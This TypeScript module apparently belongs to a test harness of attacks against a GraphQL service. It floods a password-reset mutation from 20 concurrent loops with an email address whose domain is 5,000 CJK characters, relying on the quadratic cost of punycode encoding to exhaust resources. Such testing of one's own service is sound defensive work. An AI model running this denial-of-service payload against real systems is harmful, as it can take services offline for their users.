import type { Attack } from "./attack.ts";

const ask = `mutation ($email: String!) {
  requestPasswordReset(input: { email: $email }) { __typename }
}`;

/** Characters that are all others: writing them in ASCII takes the square of their number (RFC 3492 §6.3). */
const name = String.fromCodePoint(
  ...Array.from({ length: 5000 }, (_, index) => 0x4e00 + ((index * 7919) % 20_000)),
);
const email = `a@${name}.com`;

export const attack: Attack = {
  name: "long-address",
  what: "a mail address of 5,000 Chinese characters, by nobody in particular, 20 at a time",
  async prepare({ graphql }) {
    const body = { query: ask, variables: { email } };
    return async (signal) => {
      const send = async () => {
        while (!signal.aborted) await graphql(null, body, signal).catch(() => {});
      };
      await Promise.all(Array.from({ length: 20 }, send));
    };
  },
};
